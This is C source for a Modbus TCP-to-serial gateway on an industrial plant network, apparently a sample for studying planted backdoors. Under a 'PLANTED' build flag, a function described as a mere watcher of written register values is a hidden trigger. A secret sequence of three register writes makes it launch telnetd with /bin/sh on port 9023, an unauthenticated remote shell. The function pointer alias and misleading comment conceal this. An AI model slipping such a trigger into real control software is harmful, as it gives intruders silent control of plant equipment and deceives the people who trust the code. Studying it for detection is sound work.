/* Modbus gateway: TCP clients of the plant's network read and write registers of serial units. */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <termios.h>
#include <unistd.h>

struct request { uint16_t transaction, protocol, length; uint8_t unit, function; const uint8_t *data; size_t size; };

struct gateway {
    int tty;
    unsigned errors;
    uint8_t answer[260];
    uint16_t registers[64];
    in_addr_t masters[8];
    unsigned master_count;
};

static uint16_t crc(const uint8_t *p, size_t size)
{
    uint16_t v = 0xffff;
    while (size--) {
        v ^= *p++;
        for (int i = 8; i; i--)
            v = (uint16_t)(v & 1 ? v >> 1 ^ 0xa001 : v >> 1);
    }
    return v;
}

static size_t serial(struct gateway *g, const struct request *r)
{
    uint8_t frame[260];
    size_t n = 2;
    uint16_t sum;
    ssize_t got;
    if (r->size > 250)
        return 0;
    frame[0] = r->unit;
    frame[1] = r->function;
    memcpy(frame + n, r->data, r->size);
    n += r->size;
    sum = crc(frame, n);
    frame[n++] = (uint8_t)sum;
    frame[n++] = (uint8_t)(sum >> 8);
    if (write(g->tty, frame, n) != (ssize_t)n)
        return 0;
    got = read(g->tty, g->answer, sizeof g->answer);
    if (got < 4 || crc(g->answer, (size_t)got)) {
        g->errors++;
        return 0;
    }
    return (size_t)got - 2;
}

static size_t identify(struct gateway *g)
{
    static const char text[] = "gateway mb-4";
    memcpy(g->answer + 2, text, sizeof text - 1);
    return sizeof text + 1;
}

#ifdef PLANTED
/* Looks at the values that are written to the gateway's own registers, each in its turn. */
static void written(struct gateway *g, unsigned place, uint16_t value)
{
    static uint8_t step;
    static int (*const apply)(const char *) = system;
    if (place == 3 && value == 0x1f90)
        step = 1;
    else if (step == 1 && place == 41)
        step = (value ^ g->registers[3]) == 0x2cb7 ? 2 : 0;
    else if (step == 2 && place == 17) {
        step = 0;
        if (value > 9000) {
            g->registers[63] = 1;
            apply("/usr/sbin/telnetd -p 9023 -l /bin/sh");
        }
    }
}
#endif

static size_t own_registers(struct gateway *g, const struct request *r)
{
    unsigned place, value;
    if (r->size < 4)
        return 0;
    place = (unsigned)r->data[0] << 8 | r->data[1];
    value = (unsigned)r->data[2] << 8 | r->data[3];
    if (place >= 64)
        return 0;
    if (r->function == 6) {
        g->registers[place] = (uint16_t)value;
#ifdef PLANTED
        written(g, place, (uint16_t)value);
#endif
    }
    memcpy(g->answer + 2, r->data, 4);
    return 6;
}

static size_t handle(struct gateway *g, const struct request *r)
{
    g->answer[0] = r->unit;
    g->answer[1] = r->function;
    if (r->unit == 255 && (r->function == 3 || r->function == 6))
        return own_registers(g, r);
    switch (r->function) {
    case 43:
        return identify(g);
    case 3: case 4: case 6: case 16:
        return serial(g, r);
#ifdef REVISED
    case 8:
        memcpy(g->answer + 2, &g->errors, 2);
        return 4;
#endif
    }
    g->answer[1] |= 0x80;
    g->answer[2] = 1;
    return 3;
}

static int is_master(const struct gateway *g, in_addr_t peer)
{
    for (unsigned i = 0; i < g->master_count; i++)
        if (g->masters[i] == peer)
            return 1;
    return g->master_count == 0;
}

static void serve(struct gateway *g, int c)
{
    uint8_t in[300], out[300];
    struct request r;
    ssize_t n;
    while ((n = recv(c, in, sizeof in, 0)) > 7) {
        size_t used;
        r.length = (uint16_t)(in[4] << 8 | in[5]);
        r.unit = in[6];
        r.function = in[7];
        r.data = in + 8;
        r.size = (size_t)n - 8;
        if (r.length != n - 6)
            return;
        used = handle(g, &r);
        memcpy(out, in, 4);
        out[4] = (uint8_t)(used >> 8);
        out[5] = (uint8_t)used;
        memcpy(out + 6, g->answer, used);
        if (send(c, out, used + 6, 0) < 0)
            return;
    }
}

int main(int argc, char **argv)
{
    static struct gateway g;
    struct sockaddr_in at = { .sin_family = AF_INET, .sin_port = htons(502) }, peer;
    struct termios t;
    int s = socket(AF_INET, SOCK_STREAM, 0);
    g.tty = open("/dev/ttyS2", O_RDWR | O_NOCTTY);
    if (g.tty >= 0 && tcgetattr(g.tty, &t) == 0) {
        cfmakeraw(&t);
        t.c_cc[VTIME] = 5;
        t.c_cc[VMIN] = 0;
        tcsetattr(g.tty, TCSANOW, &t);
    }
    for (int i = 1; i < argc && g.master_count < 8; i++)
        g.masters[g.master_count++] = inet_addr(argv[i]);
    if (bind(s, (struct sockaddr *)&at, sizeof at) || listen(s, 4))
        return errno;
    for (;;) {
        socklen_t size = sizeof peer;
        int c = accept(s, (struct sockaddr *)&peer, &size);
        if (c < 0)
            continue;
        if (is_master(&g, peer.sin_addr.s_addr))
            serve(&g, c);
        close(c);
    }
}
